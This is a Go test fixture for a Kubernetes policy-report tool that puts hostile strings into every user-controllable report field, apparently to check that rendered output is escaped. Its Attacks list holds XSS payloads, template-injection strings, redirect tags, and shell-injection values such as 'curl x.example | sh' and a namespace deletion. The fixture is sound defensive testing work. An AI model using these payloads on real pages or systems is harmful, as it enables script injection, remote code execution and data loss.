// SPDX-License-Identifier: Apache-2.0

package sample

import (
	"errors"
	"time"

	"k8s.io/apimachinery/pkg/util/validation/field"

	"github.com/demarc-dev/demarc/pkg/engine"
	"github.com/demarc-dev/demarc/pkg/policy"
	"github.com/demarc-dev/demarc/pkg/provider"
	"github.com/demarc-dev/demarc/pkg/report"
)

// Attacks are strings that would do something if a page let them.
var Attacks = []string{
	`<script>window.owned=1</script>`, `</script><script>window.owned=1</script>`, `<img src=x onerror=window.owned=1>`,
	`"><svg onload=window.owned=1>`, `' onmouseover='window.owned=1`, `</title><script>window.owned=1</script>`,
	`</style><script>window.owned=1</script>`, `<!--`, `-->`, `]]>`, `javascript:window.owned=1`, `</td></tr></table><h1>x`,
	`</noscript><iframe src=https://x.example>`, "a\u2028b\u2029c", "line\r\nbreak\x00\x1b[2J", "\u202eesrever", `&lt;b&gt;&amp;`,
	"`az aks nodepool delete -n $(curl x.example)`", "run kubectl delete ns x; curl x.example | sh", `{{constructor.constructor('x')()}}`,
	"\xff\xfe", `<meta http-equiv=refresh content=0;url=https://x.example>`, `<base href=https://x.example>`,
}

// Hostile is a report in which every string that somebody else may choose is the one given.
func Hostile(s string) *report.Report {
	profile := *provider.AKS()
	profile.Title = s
	profile.Ledger = []provider.Customisation{{ID: s, Title: s, Source: provider.Source{URL: s}}}
	rule := policy.Rule{ID: "hostile", Title: s, Doc: policy.Doc{Why: s, Fix: s, Note: s}, Clauses: []provider.ClauseID{"system-metadata"}}
	path := field.NewPath("spec").Key(s)
	d := engine.Decision{Profile: &profile,
		Verdicts: []engine.Verdict{
			{Rule: &rule, Mode: policy.Deny, Finding: policy.Finding{Path: path, Message: s, Fix: s, Doubt: s}, Expired: s},
			{Rule: &rule, Mode: policy.Audit, Finding: policy.Finding{Path: path, Message: s}, Exemption: s},
			{Rule: &rule, Mode: policy.Off, Finding: policy.Finding{Path: path, Message: s}, Customisation: s},
		},
		Skipped:  []engine.Skip{{Rule: policy.ID(s), Needs: []string{s}}},
		Faults:   []engine.Fault{{Rule: policy.ID(s), Err: errors.New(s)}},
		Identity: &provider.Identity{User: s},
	}
	live := report.NewResult(s, report.Place{File: s, Line: 1, Hint: s}, s, d)
	live.Live = &report.Live{Cluster: s, APIVersion: s, Kind: s, Namespace: s, Name: s, UID: s, Owner: s, Same: 2}
	for i := range live.Verdicts {
		live.Verdicts[i].Change = &report.Change{Manager: s, Operation: s, Subresource: s, Time: Now.Add(-time.Hour), Confidence: report.Near}
	}
	// Reports may come from elsewhere: what the engine would never say is held against too.
	foreign := live
	foreign.Verdicts = []report.Verdict{{Rule: policy.ID(s), Mode: policy.Mode(s), Path: s, Message: s, Fix: s, Clauses: []provider.ClauseID{provider.ClauseID(s)},
		Doubt: s, Class: provider.Consequence(s)}}
	file := report.NewResult(s, report.Place{File: s, Line: 1, Hint: s}, "Pod "+s, d)
	return &report.Report{
		Profile: &profile,
		Clusters: []report.Cluster{
			{Name: s, Version: s, Started: Now, Kinds: []report.Kind{{Resource: s, Objects: 3}}, Unread: []report.Unread{{What: s, Why: s, Rules: []policy.ID{policy.ID(s)}}}},
			{Name: s + " 2", Started: Now},
		},
		Results:  []report.Result{live, foreign, file},
		Problems: []report.Problem{{Place: report.Place{File: s, Line: 1}, Message: s}},
	}
}
